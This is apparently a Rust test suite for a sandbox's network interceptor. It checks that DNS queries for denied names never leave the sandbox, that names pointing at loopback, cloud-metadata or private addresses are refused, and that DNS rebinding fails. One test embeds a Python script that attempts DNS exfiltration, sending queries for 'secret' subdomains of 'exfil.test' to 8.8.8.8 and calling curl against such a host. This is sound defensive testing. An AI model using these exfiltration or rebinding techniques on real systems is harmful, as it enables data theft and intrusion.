//! Names as the interceptor's own resolver finds them: which queries leave, and which answers are
//! trusted.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use interceptor_tests::Lab;
use interceptor_tests::client::fetch::Plan;
use serde_json::json;

const LOOPBACK: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);

#[test]
fn d1_no_query_leaves_for_a_name_that_the_policy_denies() {
    Lab::test(|lab| {
        let server = lab.names(&[("good.test", &[&[LOOPBACK]])]);
        let policy = json!({ "network": { "allow": ["good.test", "*.wild.test"] } });
        let program = r#"
import socket, struct
def query(name, kind):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    head = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0)
    s.sendto(head + labels + struct.pack('>HH', kind, 1), ('8.8.8.8', 53))
    try: return s.recv(4096)
    except TimeoutError: return None
for kind in (1, 28, 16, 10, 15, 33, 65, 64, 255, 12, 6, 2, 257):
    query(f'secret{kind}.exfil.test', kind)
query('secret.good.test.evil.test', 1); query('1.2.0.192.in-addr.arpa', 12)
query('intranet', 1); query('foo.localhost', 1)
import os
os.system('curl -s --max-time 5 https://more-secret.exfil.test/ >/dev/null; '
          'getent hosts secret.exfil.test >/dev/null')
"#;
        lab.sandbox(&policy).resolver(server.address()).python(program).success();
        let strangers: Vec<_> =
            server.asked().into_iter().filter(|name| name != "good.test").collect();
        assert_eq!(strangers, Vec::<String>::new());
    });
}

#[test]
fn an_allowed_name_that_does_not_exist_is_said_not_to() {
    Lab::test(|lab| {
        let server = lab.names(&[]);
        let policy = json!({ "network": { "allow": ["nothing.test"] } });
        let script = "getent ahosts nothing.test; echo status $?";
        let outcome = lab.sandbox(&policy).resolver(server.address()).shell(script);
        assert!(outcome.out().contains("status 2"), "{}", outcome.out());
        assert!(server.asked().contains(&"nothing.test".to_owned()), "{:?}", server.asked());
    });
}

#[test]
fn a_name_is_resolved_and_dialled_by_the_interceptor() {
    Lab::test(|lab| {
        // A rule for the address lifts the guard; the port is the lab's own.
        let server = lab.names(&[("good.test", &[&[LOOPBACK]])]);
        let policy = json!({ "network": { "allow": ["good.test", "127.0.0.1"] } });
        let mut plan = Plan::https("good.test", "h2").ask("GET", "/x");
        plan.connect = format!("good.test:{}", lab.origin().port());
        plan.requests[0].host = plan.connect.clone();
        let reports = lab.sandbox(&policy).resolver(server.address()).fetch(&plan);
        assert_eq!(
            (reports[0].error.as_deref(), reports[0].answers.len()),
            (None, 1),
            "{reports:?}"
        );
        assert_eq!(reports[0].answers[0].status, 200, "{reports:?}");
    });
}

#[test]
fn d3_a_name_that_points_inside_is_not_dialled() {
    let inside: [&[IpAddr]; 6] = [
        &[LOOPBACK],
        &[IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254))],
        &[IpAddr::V4(Ipv4Addr::new(10, 9, 9, 9))],
        &[IpAddr::V6(Ipv6Addr::LOCALHOST)],
        &[IpAddr::V6(Ipv6Addr::new(0, 0, 0, 0, 0, 0xffff, 0x7f00, 1))],
        &[IpAddr::V6(Ipv6Addr::new(0x64, 0xff9b, 0, 0, 0, 0, 0x7f00, 1))],
    ];
    for addresses in inside {
        Lab::test(|lab| {
            let server = lab.names(&[("good.test", &[addresses])]);
            let policy = json!({ "network": { "allow": ["good.test"] } });
            let port = lab.forbidden().port();
            let mut plan = Plan::https("good.test", "http/1.1").ask("GET", "/x");
            plan.connect = format!("good.test:{port}");
            plan.requests[0].host = plan.connect.clone();
            let (reports, outcome) =
                lab.sandbox(&policy).resolver(server.address()).fetch_outcome(&plan);
            assert_eq!(reports[0].error, None, "{addresses:?}: {}", outcome.tail());
            let refusal = reports[0].answers[0].refusal();
            assert!(refusal.status == 403 || refusal.status == 502, "{addresses:?}: {refusal:?}");
            assert!(outcome.requests("allow").is_empty());
        });
    }
}

#[test]
fn d3_an_answer_that_changes_between_check_and_dial_does_not_help() {
    Lab::test(|lab| {
        lab.unordered();
        let public = [IpAddr::V4(Ipv4Addr::new(198, 51, 100, 7))];
        let server = lab.names(&[("good.test", &[&public, &[LOOPBACK]])]);
        let policy = json!({ "network": { "allow": ["good.test"] } });
        let port = lab.forbidden().port();
        let script = format!(
            "for n in 1 2 3 4 5 6; do curl -s --max-time 1 -o /dev/null http://good.test:{port}/; \
             done; true"
        );
        lab.sandbox(&policy).resolver(server.address()).shell(&script).success();
        // The reach oracle notices if loopback was dialled even once.
    });
}
